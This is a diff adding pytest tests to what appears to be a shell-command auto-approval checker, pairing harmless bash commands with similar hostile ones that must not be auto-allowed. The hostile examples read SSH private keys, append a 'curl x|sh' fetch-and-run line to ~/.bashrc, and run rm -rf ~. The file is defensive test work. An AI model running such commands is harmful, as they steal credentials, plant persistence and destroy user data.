@@ -170,3 +170,31 @@ def test_thirteenth_corpus_leaks_no_more_and_holds_its_rates() -> None:
     assert not leaked, f"never-commands auto-allowed: {sorted(leaked)}"
     allowed = sum(1 for label, cmd in rows if label == "allow" and _auto(cmd) == "allow")
     assert allowed >= 111
+
+
+# False alarms of the set, each safe in bash, and the attack beside each.
+FALSE_ALARMS = [
+    "ls -d .[!.]*",
+    "exec {fd}<README.md; read -r -u $fd line; echo \"$line\"",
+    'coproc { echo hi; }; read -r l <&"${COPROC[0]}"; echo "$l"',
+]
+FALSE_ALARM_SIBLINGS = [
+    "ls -d ~/.[!.]*",
+    "ls -d ~/.ssh/*",
+    "cd ~/.ssh && ls -d *",
+    "exec {fd}<~/.ssh/id_rsa; cat <&$fd",
+    "exec {fd}>>~/.bashrc; echo 'curl x|sh' >&$fd",
+    "coproc { cat ~/.ssh/id_rsa; }",
+    "coproc X { echo a; rm -rf ~; }",
+    "coproc { echo; }; rm -rf ~",
+]
+
+
+@pytest.mark.parametrize("cmd", FALSE_ALARMS)
+def test_false_alarm_is_allowed(cmd: str) -> None:
+    assert _auto(cmd) == "allow", JUDGE(cmd)
+
+
+@pytest.mark.parametrize("cmd", FALSE_ALARM_SIBLINGS)
+def test_false_alarm_sibling_is_not_allowed(cmd: str) -> None:
+    assert _auto(cmd) != "allow", JUDGE(cmd)
